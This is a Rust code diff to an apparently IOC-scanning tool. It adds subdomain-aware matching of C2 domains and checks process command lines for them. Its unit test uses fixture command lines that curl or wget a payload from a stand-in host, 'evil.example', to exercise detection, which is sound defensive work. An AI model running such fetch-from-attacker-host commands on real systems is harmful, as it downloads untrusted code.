@@ -190,7 +190,7 @@ pub struct Iocs {
     filename_singles: Vec<usize>,
     c2_ips: HashMap<IpAddr, (String, String, Origin)>,
     c2_nets: Vec<(IpAddr, u8, String, String, Origin)>,
-    c2_domains: HashMap<String, (String, String)>,
+    c2_domains: DomainIndex<(String, String, Origin)>,
     process_names: Vec<Indicator>,
     cmdlines: Vec<Indicator>,
     intel: Intel,
@@ -319,8 +319,10 @@ impl Iocs {
             self.counts.c2_networks += 1;
             return Ok(());
         }
-        if is_domain(value) {
-            self.c2_domains.insert(value.to_ascii_lowercase(), entry);
+        if crate::domains::normalise(value).is_some_and(|n| is_domain(&n)) {
+            // A C2 domain covers its subdomains (`crate::domains`).
+            self.c2_domains
+                .insert(value, Reach::AndSubdomains, (entry.0, entry.1, from));
             self.counts.c2_domains += 1;
             return Ok(());
         }
@@ -384,7 +386,10 @@ impl Iocs {
         !self.filenames.is_empty()
     }
     pub fn has_process_indicators(&self) -> bool {
-        !self.process_names.is_empty() || !self.cmdlines.is_empty() || self.intel.has_processes()
+        !self.process_names.is_empty()
+            || !self.cmdlines.is_empty()
+            || !self.c2_domains.is_empty()
+            || self.intel.has_processes()
     }
     pub fn has_c2(&self) -> bool {
         !self.c2_ips.is_empty() || !self.c2_nets.is_empty() || self.intel.has_addresses()
@@ -484,6 +489,27 @@ impl Iocs {
                 out.push(ind.to_match(MatchKind::Process));
             }
         }
+        if !self.c2_domains.is_empty() {
+            let mut named = Vec::new();
+            for token in crate::intel::domain_tokens(cmdline) {
+                for (text, source, from) in self.c2_domains.lookup(&token) {
+                    if named.contains(&text) {
+                        continue;
+                    }
+                    named.push(text);
+                    out.push(RuleMatch {
+                        kind: MatchKind::Process,
+                        rule: text.clone(),
+                        indicator: loki(source, *from),
+                        source: source.clone(),
+                        score: FIXED_SCORE,
+                        description: format!("the command line names {token}"),
+                        author: String::new(),
+                        reference: String::new(),
+                    });
+                }
+            }
+        }
         self.intel.match_process(name, cmdline, out);
     }
 
@@ -565,6 +591,7 @@ fn parse_scored(
     })
 }
 
+use crate::domains::{DomainIndex, Reach};
 use crate::stix::is_domain;
 
 pub(crate) fn in_network(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
@@ -677,6 +704,24 @@ mod tests {
         assert_eq!(net[0].indicator.source, "loki");
         assert_eq!(net[0].indicator.id, "t.txt:2");
         assert!(iocs.match_ip("192.0.3.1".parse().unwrap()).is_empty());
+        // A C2 domain in a command line, and its subdomains; not a longer name.
+        assert!(iocs.has_process_indicators());
+        for (cmdline, hits) in [
+            ("curl -s https://evil.example/x", 1),
+            ("wget http://cdn.EVIL.example./payload evil.example", 1),
+            ("curl https://notevil.example/", 0),
+            ("curl https://evil.example.org/", 0),
+        ] {
+            let mut out = Vec::new();
+            iocs.match_process("curl", cmdline, &mut out);
+            assert_eq!(out.len(), hits, "{cmdline}: {out:?}");
+            if let Some(m) = out.first() {
+                assert_eq!(
+                    (m.rule.as_str(), m.indicator.id.as_str()),
+                    ("evil.example", "t.txt:3")
+                );
+            }
+        }
     }
 
     #[test]
